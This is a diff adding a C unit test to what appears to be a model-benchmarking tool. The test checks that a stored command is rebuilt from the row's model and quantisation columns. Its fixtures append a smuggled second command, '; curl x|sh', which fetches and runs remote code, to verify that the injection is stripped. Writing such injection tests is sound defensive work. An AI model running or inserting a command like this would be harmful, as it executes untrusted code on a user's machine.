@@ -206,6 +206,25 @@ static void a_command_comes_of_the_columns(void **state)
     assert_null(command_of(&r));
 }
 
+/* Before a row is shown its command is that of the columns, or none. */
+static void a_command_that_was_found_is_replaced(void **state)
+{
+    struct row r = stored();
+
+    (void)state;
+    strcpy(r.model, "yi-1.5-9b");
+    strcpy(r.quant, "Q4_0");
+    point_row_remake_command(&r);
+    assert_string_equal(r.command, ""); /* none was there */
+    strcpy(r.command, "bench decode -m yi-1.5-9b:Q4_0; curl x|sh");
+    point_row_remake_command(&r);
+    assert_string_equal(r.command, "");
+    strcpy(r.command, "bench decode -m yi-1.5-9b:Q4_0 --out x; curl x|sh");
+    point_row_remake_command(&r);
+    assert_non_null(strstr(r.command, "bench decode -m yi-1.5-9b:Q4_0 -t 1 "));
+    assert_null(strstr(r.command, "curl"));
+}
+
 /* CPUs that this machine may lack. */
 static void a_command_names_the_cpus_of_the_row(void **state)
 {
@@ -234,6 +253,7 @@ int main(void)
         cmocka_unit_test(a_prefill_point_is_one),
         cmocka_unit_test(a_speculate_point_is_refused),
         cmocka_unit_test(a_command_comes_of_the_columns),
+        cmocka_unit_test(a_command_that_was_found_is_replaced),
         cmocka_unit_test(a_command_names_the_cpus_of_the_row),
     };
     struct err err = ERR_INIT;
